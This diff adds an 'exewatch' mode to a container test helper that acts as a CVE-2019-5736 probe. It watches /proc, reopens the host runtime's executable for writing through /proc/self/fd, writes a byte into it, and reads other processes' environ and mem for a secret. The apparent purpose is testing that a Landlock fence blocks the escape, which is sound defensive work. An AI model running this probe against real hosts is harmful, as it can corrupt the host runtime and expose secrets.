@@ -12,7 +12,21 @@
  *       connect to itself over 127.0.0.1:PORT and keep one connection
  *       established: every 100 ms the client sends a counter, the server
  *       checks it follows the previous one and writes "<n> <ok>" to FILE
+ *   ctrhelper exewatch SECONDS SECRET FILE
+ *       the CVE-2019-5736 attacker: for SECONDS (or until /var/watch.stop
+ *       exists), watch /proc for processes
+ *       whose executable is not busybox/ctrhelper (the runtime joining the
+ *       container); open their /proc/PID/exe with O_PATH and keep trying to
+ *       reopen it for writing through /proc/self/fd/N and write one byte;
+ *       read their environ (looking for SECRET) and mem. One line per
+ *       finding in FILE: "seen PID TARGET", "denied PID ERRNO" (exe not
+ *       even openable), "exe PID open=ERRNO write=ERRNO",
+ *       "environ PID ERRNO secret=0|1", "mem PID ERRNO"
  */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -148,8 +162,107 @@ static int tcppair(int port, const char *file)
 	}
 }
 
+#define WATCH_MAX 64
+
+static int exewatch(int seconds, const char *secret, const char *file)
+{
+	FILE *out = fopen(file, "w");
+	int fds[WATCH_MAX], pids[WATCH_MAX], done[WATCH_MAX], n = 0, i;
+	char seen[32768] = { 0 };
+	time_t end = time(NULL) + seconds;
+
+	if (!out)
+		return 1;
+	setvbuf(out, NULL, _IOLBF, 0);
+	while (time(NULL) < end && access("/var/watch.stop", F_OK) != 0) {
+		DIR *d = opendir("/proc");
+		struct dirent *e;
+
+		while (d && (e = readdir(d))) {
+			int pid = atoi(e->d_name);
+			char path[64], target[256], buf[65536];
+			ssize_t len;
+			int fd;
+
+			if (pid <= 1 || pid == getpid() || pid >= (int)sizeof(seen) || seen[pid])
+				continue;
+			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+			fd = open(path, O_PATH | O_CLOEXEC);
+			if (fd < 0 && errno != EACCES && errno != EPERM)
+				continue;
+			if (fd < 0) {
+				/* A fence (Landlock) keeps us out: say so once. */
+				fprintf(out, "denied %d %d\n", pid, errno);
+			} else {
+				len = readlink(path, target, sizeof(target) - 1);
+				target[len > 0 ? len : 0] = 0;
+				if (!strcmp(target, "/bin/busybox") || !strcmp(target, "/bin/ctrhelper")) {
+					close(fd);
+					continue;
+				}
+				if (n < WATCH_MAX) {
+					fds[n] = fd, pids[n] = pid, done[n] = 0, n++;
+					fprintf(out, "seen %d %s\n", pid, target);
+				} else {
+					close(fd);
+				}
+			}
+			seen[pid] = 1;
+			snprintf(path, sizeof(path), "/proc/%d/environ", pid);
+			fd = open(path, O_RDONLY | O_CLOEXEC);
+			if (fd < 0) {
+				fprintf(out, "environ %d %d secret=0\n", pid, errno);
+			} else {
+				len = read(fd, buf, sizeof(buf) - 1);
+				buf[len > 0 ? len : 0] = 0;
+				for (i = 0; i < len; i++)
+					if (!buf[i])
+						buf[i] = '\n';
+				fprintf(out, "environ %d %d secret=%d\n", pid, len < 0 ? errno : 0,
+					len > 0 && strstr(buf, secret) != NULL);
+				close(fd);
+			}
+			snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+			fd = open(path, O_RDONLY | O_CLOEXEC);
+			fprintf(out, "mem %d %d\n", pid, fd < 0 ? errno : 0);
+			if (fd >= 0)
+				close(fd);
+		}
+		if (d)
+			closedir(d);
+		/* Keep trying: "Text file busy" lasts only while a host process
+		 * still runs the file. */
+		for (i = 0; i < n; i++) {
+			char path[64];
+			int w, werr = 0, oerr = 0;
+
+			if (done[i])
+				continue;
+			snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
+			w = open(path, O_WRONLY | O_CLOEXEC);
+			if (w < 0) {
+				oerr = errno;
+			} else {
+				if (pwrite(w, "", 0, 0) < 0 || pwrite(w, "\x7f", 1, 0) != 1)
+					werr = errno ? errno : EIO;
+				close(w);
+				done[i] = 1;
+			}
+			if (oerr != ETXTBSY || time(NULL) + 1 >= end ||
+			    access("/var/watch.stop", F_OK) == 0) {
+				done[i] = 1;
+				fprintf(out, "exe %d open=%d write=%d\n", pids[i], oerr, werr);
+			}
+		}
+	}
+	fprintf(out, "end\n");
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
+	if (argc >= 5 && !strcmp(argv[1], "exewatch"))
+		return exewatch(atoi(argv[2]), argv[3], argv[4]);
 	if (argc >= 3 && !strcmp(argv[1], "notify"))
 		return notify(argv[2]);
 	if (argc >= 4 && !strcmp(argv[1], "memhold"))
